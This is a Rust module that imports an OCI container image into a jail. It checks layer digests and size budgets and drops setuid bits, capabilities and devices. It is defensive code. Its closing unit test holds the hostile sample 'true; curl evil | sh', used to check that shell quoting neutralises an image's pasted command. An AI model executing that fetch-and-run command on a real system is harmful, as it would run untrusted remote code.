//! `jail-init --from-oci`: the tree of an image becomes a jail.
//!
//! The image comes from anybody. It is read twice: once to digest every layer, to hold every entry against what a layer may
//! hold, and to lay the layers over each other in memory; then, if all of it is sound, to write the files that remain. Before
//! that nothing is written, and nothing of the image is ever a path that the host resolves.

mod layer;
mod merge;
mod place;
mod source;
pub mod trial;
mod zstd;

use std::io::{self, Read, Write as _};
use std::path::{Path, PathBuf};

use flate2::bufread::MultiGzDecoder;
use jail_provision::apply::Progress;
use jail_provision::digest::{Fingerprint, Taking};
use jail_provision::error::{Error, Result};
use jail_provision::jailroot::JailRoot;
use jail_provision::manifest::{ImageOrigin, Manifest, PathText};
use jail_provision::plan::Kept;
use jail_provision::recording::Seen;
use jail_provision::state::State;
use jail_provision::{provision, text};
use serde_json::{Value, json};

use self::layer::{Budget, Item, Kind, Visit};
use self::merge::Tree;
use self::source::{Layout, reason, shown};
use self::zstd::Frames;
use crate::export::digesting::Digesting;
use crate::oci::{self, BlobDigest, Descriptor};
use crate::progress::Line;
use crate::run::Tool;
use crate::{report, say};

/// What is asked.
pub(crate) struct Request<'a> {
    pub(crate) file: &'a Path,
    pub(crate) jail: &'a Path,
    pub(crate) max: u64,
    pub(crate) force: bool,
    pub(crate) dry_run: bool,
    /// Name every entry.
    pub(crate) verbose: bool,
}

/// No engine takes an image with more layers than some hundred.
const MOST_LAYERS: usize = 1_000;

/// The image that is being read.
struct Image<'a> {
    layout: &'a Layout,
    manifest: oci::Manifest,
    origin: ImageOrigin,
    diff_ids: Vec<BlobDigest>,
}

/// What became of it.
pub(crate) struct Outcome {
    jail: PathBuf,
    origin: ImageOrigin,
    paths: usize,
    written: usize,
    removed: usize,
    kept: Vec<(PathBuf, Kept)>,
    notes: Vec<String>,
    dry_run: bool,
}

/// Makes a jail of an image, or brings one made of an image up to date.
///
/// # Errors
/// The image is damaged, hostile or of an unknown kind, or the jail is another's.
pub(crate) fn import(request: &Request<'_>, tool: &Tool) -> Result<Outcome> {
    let layout = Layout::open(request.file)?;
    let (descriptor, manifest) = layout.image()?;
    let image = describe(&layout, &descriptor, manifest)?;
    let (jail, path) = provision::find(request.jail)?;
    let state = tool.state(&path);
    let old = known(&state, &path, jail.as_ref())?;
    if is_up_to_date(&image, &old, jail.as_ref()) && !request.force {
        return Ok(outcome(
            request,
            path,
            &image,
            old.files.len(),
            &place::Differences::default(),
            Vec::new(),
        ));
    }
    let mut line = Line::new(false);
    let tree = survey(&image, request.max, old.image.is_some(), &mut line)?;
    line.clear();
    let notes = notes(&tree);
    if request.dry_run {
        let differences = place::compare(&tree, &old, jail.as_ref(), old.image.is_none(), request.force);
        return Ok(outcome(request, path, &image, tree.nodes.len(), &differences, notes));
    }
    let jail = JailRoot::find_or_make(&path)?;
    state.make()?;
    let _lock = state.lock(&mut |holder| say::waiting("jail-init", holder))?;
    // Whoever had the lock before us may have changed what we are about to change.
    let old = known(&state, &path, Some(&jail))?;
    // One that no image was ever brought to was just seen to be empty.
    let differences = place::compare(&tree, &old, Some(&jail), old.image.is_none(), request.force);
    let mut line = Line::new(request.verbose);
    carry_out(&image, &tree, &differences, &old, &jail, &state, &mut line)?;
    line.clear();
    Ok(outcome(request, path, &image, tree.nodes.len(), &differences, notes))
}

/// What is known of the jail. One that was not made from an image, or a directory that holds something, is not for us.
fn known(state: &State, path: &Path, jail: Option<&JailRoot>) -> Result<Manifest> {
    use jail_provision::host::Host as _;
    match state.manifest()? {
        Some(manifest) if manifest.image.is_some() => Ok(manifest),
        Some(_) => Err(Error::refused(format!("{} is a jail made from sections", text::quote(path)))
            .hint("an image belongs into a jail of its own")),
        None => {
            let names = jail.map(|jail| jail.read_dir(Path::new("/"))).transpose();
            let names = names.map_err(|e| Error::io("read", path, e))?.unwrap_or_default();
            if names.is_empty() {
                return Ok(Manifest::new(path));
            }
            Err(Error::refused(format!("{} holds something already", text::quote(path)))
                .hint("an image belongs into a new or empty directory"))
        }
    }
}

fn describe<'a>(layout: &'a Layout, descriptor: &Descriptor, manifest: oci::Manifest) -> Result<Image<'a>> {
    let config: oci::Image = match manifest.config.media_type.as_str() {
        oci::CONFIG | "application/vnd.docker.container.image.v1+json" => {
            layout.document(&manifest.config, "the image's configuration")?
        }
        other => {
            let why = format!("{} is no media type of an image that is known here", shown(other));
            return Err(layout.bad(why));
        }
    };
    if (config.os.as_str(), config.architecture.as_str()) != ("linux", oci::architecture()) {
        return Err(Error::failed(format!(
            "the image is for {}, and this machine is linux/{}",
            shown(&format!("{}/{}", config.os, config.architecture)),
            oci::architecture()
        )));
    }
    if config.rootfs.diff_ids.len() != manifest.layers.len() {
        return Err(layout.bad(format!(
            "it has {} layers and {} digests of layers",
            manifest.layers.len(),
            config.rootfs.diff_ids.len()
        )));
    }
    if manifest.layers.len() > MOST_LAYERS {
        return Err(layout.bad(format!("it has {} layers, more than {MOST_LAYERS}", manifest.layers.len())));
    }
    for layer in &manifest.layers {
        // Before the first byte of a layer is read.
        packing(layout, layer)?;
    }
    let settings = config.config;
    let mut command = settings.entrypoint.unwrap_or_default();
    command.extend(settings.cmd.unwrap_or_default());
    let origin = ImageOrigin {
        digest: Some(descriptor.digest.0),
        name: descriptor.annotations.get(oci::REF_NAME).cloned().unwrap_or_default(),
        user: settings.user,
        command,
        env: settings.env.unwrap_or_default(),
        working_dir: settings.working_dir,
    };
    Ok(Image { layout, manifest, origin, diff_ids: config.rootfs.diff_ids })
}

/// How a layer is packed.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Packing {
    None,
    Gzip,
    Zstd,
}

fn packing(layout: &Layout, layer: &Descriptor) -> Result<Packing> {
    match layer.media_type.as_str() {
        oci::LAYER | "application/vnd.docker.image.rootfs.diff.tar" => Ok(Packing::None),
        oci::LAYER_GZIP | "application/vnd.docker.image.rootfs.diff.tar.gzip" => Ok(Packing::Gzip),
        "application/vnd.oci.image.layer.v1.tar+zstd" => Ok(Packing::Zstd),
        other => Err(layout
            .bad(format!("{} is no media type of a layer that is known here", shown(other)))
            .hint("plain tar, gzip and zstd are; skopeo copy --dest-compress-format gzip makes one of it")),
    }
}

/// A layer as the tar archive that it is.
fn unpacked(layout: &Layout, layer: &Descriptor) -> Result<Box<dyn Read>> {
    let packing = packing(layout, layer)?;
    Ok(unpack(packing, layout.blob(layer)?))
}

fn unpack<'a>(packing: Packing, blob: impl Read + 'a) -> Box<dyn Read + 'a> {
    let blob = io::BufReader::with_capacity(256 << 10, blob);
    match packing {
        Packing::None => Box::new(blob),
        Packing::Gzip => Box::new(MultiGzDecoder::new(blob)),
        Packing::Zstd => Box::new(Frames::new(blob)),
    }
}

/// Reads all layers, holds them against their digests, and lays them over each other.
fn survey(image: &Image<'_>, max: u64, with_digests: bool, progress: &mut dyn Progress) -> Result<Tree> {
    let mut tree = Tree::default();
    let mut budget = Budget::new(max);
    for (number, descriptor) in image.manifest.layers.iter().enumerate() {
        let what = format!("layer {}", number + 1);
        let mut items = Vec::new();
        let mut collect =
            |number: usize, item: Item, content: &mut dyn Read| -> std::result::Result<(), String> {
                let digest = match item.kind {
                    Kind::File { .. } if with_digests => Some(digest_of(content)?),
                    _ => None,
                };
                let size = if let Kind::File { size } = item.kind { size } else { 0 };
                progress.step(&item.path, size);
                items.push((number, item, digest));
                Ok(())
            };
        let diff_id = image.diff_ids.get(number).copied();
        read_layer(image.layout, descriptor, diff_id, &what, &mut budget, &mut collect)?;
        tree.lay(number, items, &mut budget).map_err(|why| image.layout.bad(format!("{what}: {why}")))?;
    }
    Ok(tree)
}

fn read_layer(
    layout: &Layout,
    descriptor: &Descriptor,
    diff_id: Option<BlobDigest>,
    what: &str,
    budget: &mut Budget,
    collect: &mut Visit<'_>,
) -> Result<()> {
    let failed = |e: io::Error| layout.bad(format!("{what} cannot be read: {}", reason(&e)));
    let exceeded = budget.exceeded();
    let bad = |why: String| {
        let error = layout.bad(format!("{what}: {why}"));
        if why != exceeded {
            return error;
        }
        error.hint("--max-size allows more, if the image is one that you trust")
    };
    let packing = packing(layout, descriptor)?;
    let from = io::BufReader::with_capacity(256 << 10, layout.blob(descriptor)?);
    let mut blob = Tee { from, sum: Digesting::new(io::sink()).map_err(failed)? };
    let unpacked = if packing == Packing::None {
        layer::read(&mut blob, budget, collect).map_err(bad)?;
        None
    } else {
        let mut plain =
            Tee { from: unpack(packing, &mut blob), sum: Digesting::new(io::sink()).map_err(failed)? };
        let read = layer::read(&mut plain, budget, collect);
        let (_, sum) = plain.sum.finish().map_err(failed)?;
        read.map_err(bad)?;
        Some(sum.digest)
    };
    // Behind the end of the packed stream there may be more of the blob.
    io::copy(&mut blob, &mut io::sink()).map_err(failed)?;
    let (_, sum) = blob.sum.finish().map_err(failed)?;
    if BlobDigest(sum.digest) != descriptor.digest {
        return Err(layout.wrong_digest(what, descriptor.digest, BlobDigest(sum.digest)));
    }
    let unpacked = BlobDigest(unpacked.unwrap_or(sum.digest));
    match diff_id {
        Some(declared) if declared != unpacked => {
            Err(layout.wrong_digest(&format!("{what}, unpacked,"), declared, unpacked))
        }
        _ => Ok(()),
    }
}

/// Passes on what is read, and digests it.
struct Tee<R> {
    from: R,
    sum: Digesting<io::Sink>,
}

impl<R: Read> Read for Tee<R> {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let got = self.from.read(buffer)?;
        self.sum.write_all(&buffer[..got])?;
        Ok(got)
    }
}

fn digest_of(content: &mut dyn Read) -> std::result::Result<Fingerprint, String> {
    let mut hash = Taking::new();
    let mut buffer = vec![0; 64 << 10];
    loop {
        match content.read(&mut buffer) {
            Ok(0) => return Ok(hash.finish()),
            Ok(got) => hash.update(&buffer[..got]),
            Err(error) if error.kind() == io::ErrorKind::Interrupted => {}
            Err(error) => return Err(format!("it cannot be read: {}", reason(&error))),
        }
    }
}

/// Whether this very image is in the jail, as it was left.
fn is_up_to_date(image: &Image<'_>, old: &Manifest, jail: Option<&JailRoot>) -> bool {
    let Some(jail) = jail else { return false };
    let same = old.image.as_ref().is_some_and(|origin| origin.digest == image.origin.digest);
    same && old.pending.is_empty()
        && jail.identity().is_ok_and(|identity| identity == (old.device, old.inode))
        && old.files.iter().all(|(path, record)| provision::as_left(jail, &path.0, record))
}

fn carry_out(
    image: &Image<'_>,
    tree: &Tree,
    differences: &place::Differences,
    old: &Manifest,
    jail: &JailRoot,
    state: &State,
    progress: &mut dyn Progress,
) -> Result<()> {
    jail.remove_leftovers(old.pending.iter().map(|path| path.0.as_path()))?;
    let (device, inode) = jail.identity()?;
    let mut pending = old.pending.clone();
    pending.extend(differences.write.iter().map(|path| PathText(Path::new("/").join(path))));
    pending.extend(differences.remove.iter().cloned().map(PathText));
    // A killed run must not pass for a finished one: until the end no digest says which image is in the jail.
    let origin = ImageOrigin { digest: None, ..image.origin.clone() };
    let intent =
        Manifest { image: Some(origin), pending, seen: Seen::default(), device, inode, ..old.clone() };
    state.stage(&intent)?.commit()?;
    // Where nobody else can look, a file gets its name and mode at once.
    let files = if jail.is_new() && old.files.is_empty() && old.pending.is_empty() {
        let fresh = jail.begin_fresh()?;
        let files = place::place(image, tree, differences, fresh.inside(), progress)?;
        image.layout.unchanged()?;
        fresh.settle(files)?
    } else {
        let files = place::place(image, tree, differences, jail, progress)?;
        image.layout.unchanged()?;
        files
    };
    let manifest =
        Manifest { image: Some(image.origin.clone()), pending: Default::default(), files, ..intent };
    let staged = state.stage(&manifest)?;
    // What the manifest says is there must be on the disk before the manifest is.
    jail.sync()?;
    staged.sync_unless_on(device)?;
    staged.commit()?;
    provision::write_entry(&manifest, state)
}

fn notes(tree: &Tree) -> Vec<String> {
    let some = |paths: &[PathBuf]| {
        let mut names: Vec<String> =
            paths.iter().take(3).map(|path| text::quote(&Path::new("/").join(path))).collect();
        if paths.len() > names.len() {
            names.push(format!("and {} more", say::thousands((paths.len() - names.len()) as u64)));
        }
        names.join(", ")
    };
    let mut notes = Vec::new();
    if !tree.dropped.setuid.is_empty() {
        notes.push(format!("set-uid and set-gid bits were dropped: {}", some(&tree.dropped.setuid)));
    }
    if !tree.dropped.capabilities.is_empty() {
        notes.push(format!("file capabilities were dropped: {}", some(&tree.dropped.capabilities)));
    }
    if !tree.dropped.devices.is_empty() {
        notes.push(format!(
            "devices were left out, since every cell has its own: {}",
            some(&tree.dropped.devices)
        ));
    }
    let others = tree.nodes.values().filter(|node| node.meta.uid != 0).count();
    if others > 0 && rustix::process::geteuid().is_root() {
        notes.push(format!("{} to other users than root, by number", say::count(others, "path") + " belong"));
    }
    notes
}

fn outcome(
    request: &Request<'_>,
    jail: PathBuf,
    image: &Image<'_>,
    paths: usize,
    differences: &place::Differences,
    notes: Vec<String>,
) -> Outcome {
    Outcome {
        jail,
        origin: image.origin.clone(),
        paths,
        written: differences.write.len(),
        removed: differences.remove.len(),
        kept: differences.kept.iter().map(|(path, kept)| (path.clone(), *kept)).collect(),
        notes,
        dry_run: request.dry_run,
    }
}

/// What to type now. The command is the image's, and whoever made that may have anything pasted.
fn next(jail: &str, command: &[String]) -> String {
    let words: Vec<String> = command.iter().map(|word| text::shell_word(word)).collect();
    let command = if words.is_empty() { "/bin/sh".to_owned() } else { words.join(" ") };
    format!("\nNext:\n  jail-run -j {} -- {command}\n", text::shell_word(jail))
}

impl Outcome {
    fn digest(&self) -> String {
        self.origin.digest.map(|digest| format!("sha256:{digest}")).unwrap_or_default()
    }

    /// For a person.
    pub(crate) fn report(&self) -> String {
        let jail = text::encode(&self.jail);
        let image = format!("{} {}", text::encode(Path::new(&self.origin.name)), self.digest());
        let mut out = String::new();
        for (path, kept) in &self.kept {
            out.push_str(&format!("kept {}: {}\n", text::quote(path), report::why_kept(*kept)));
        }
        for note in &self.notes {
            out.push_str(&format!("note: {note}\n"));
        }
        if self.written + self.removed == 0 {
            return out + &format!("{jail} is up to date (image {}).\n", image.trim());
        }
        let (verb, removed) = (if self.dry_run { "would be written" } else { "written" }, self.removed);
        let removed =
            if removed > 0 { format!(", {} removed", say::thousands(removed as u64)) } else { String::new() };
        out.push_str(&format!(
            "{jail}: {} {verb}{removed} (image {}).\n",
            say::count(self.written, "path"),
            image.trim()
        ));
        if !self.dry_run {
            out.push_str(&next(&jail, &self.origin.command));
        }
        out
    }

    /// For a program.
    pub(crate) fn as_json(&self) -> Value {
        let kept: Vec<Value> = self
            .kept
            .iter()
            .map(|(path, kept)| json!({ "path": text::encode(path), "why": report::why_kept(*kept) }))
            .collect();
        json!({
            "jail": text::encode(&self.jail),
            "image": { "name": self.origin.name, "digest": self.digest(), "user": self.origin.user,
                "command": self.origin.command, "working_dir": self.origin.working_dir },
            "dry_run": self.dry_run,
            "paths": self.paths,
            "written": self.written,
            "removed": self.removed,
            "kept": kept,
            "notes": self.notes,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_line_to_paste_is_one_command() {
        let command = ["/bin/sh", "-c", "true; curl evil | sh"].map(str::to_owned);
        assert_eq!(
            next("/srv/my app", &command),
            "\nNext:\n  jail-run -j '/srv/my app' -- /bin/sh -c 'true; curl evil | sh'\n"
        );
        assert!(next("/srv/app", &[]).ends_with("jail-run -j /srv/app -- /bin/sh\n"));
    }
}
